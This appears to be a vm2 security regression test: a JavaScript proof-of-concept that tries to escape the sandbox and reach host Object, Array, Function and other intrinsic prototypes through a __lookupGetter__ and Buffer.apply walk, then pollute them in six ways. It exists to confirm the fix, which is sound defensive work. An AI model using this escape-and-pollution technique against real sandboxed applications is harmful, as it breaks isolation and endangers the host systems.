// Source: vm2 test/ghsa/GHSA-vwrp-x96c-mhwq/repro.js (fixed in vm2 3.11.0), docs/ATTACKS.md Category 20.
// Tried: reach host intrinsic prototypes (Object, Array, Function) with the __lookupGetter__ +
// Buffer.apply walk and pollute them (assignment, Reflect.set, defineProperty, Object.assign,
// delete, preventExtensions); the test's last scenario checks the marker never shows up.
const out = {};
const g = ({}).__lookupGetter__;
const a = Buffer.apply;
// vm2 3.12 refuses the host `__proto__` getter this walk starts from (GHSA-88hf); so that the rest of
// the PoC still runs, it falls back to Object.getPrototypeOf, answered with vm2's mapped prototypes.
let step = (x) => Object.getPrototypeOf(x);
try {
  const p = a.apply(g, [Buffer, ['__proto__']]);
  if (typeof p === 'function') step = (x) => p.call(x);
  else out.getter = typeof p;
} catch (e) { out.walk = String(e.message); }
const walk = (seed, depth) => { let r = seed; for (let i = 0; i < depth && r; i++) r = step(r); return r; };
const targets = { object: walk(Buffer.of(), 4), array: walk([], 1), function: walk(Buffer, 1), error: (() => { try { new URL(''); } catch (e) { return walk(e, 2); } })(), urlProto: walk(new URL('http://a.test/'), 1), hashProto: walk(crypto.createHash('sha1'), 1) };
for (const [name, proto] of Object.entries(targets)) {
  if (!proto) continue;
  const writes = {
    assign: () => { proto.__wrPolluted = 'x'; },
    reflectSet: () => Reflect.set(proto, '__wrPolluted', 'x'),
    define: () => Object.defineProperty(proto, '__wrPolluted', { value: 'x', writable: true, enumerable: true, configurable: true }),
    objectAssign: () => Object.assign(proto, { __wrPolluted: 'x' }),
    remove: () => delete proto.hasOwnProperty,
    preventExtensions: () => Object.preventExtensions(proto),
  };
  for (const [how, write] of Object.entries(writes)) {
    try { out[name + '.' + how] = String(write()); } catch (e) { out[name + '.' + how] = String(e.message).slice(0, 50); }
  }
}
if (({}).__wrPolluted !== undefined || [].__wrPolluted !== undefined) __wr.flag('a host intrinsic prototype was polluted');
return out;
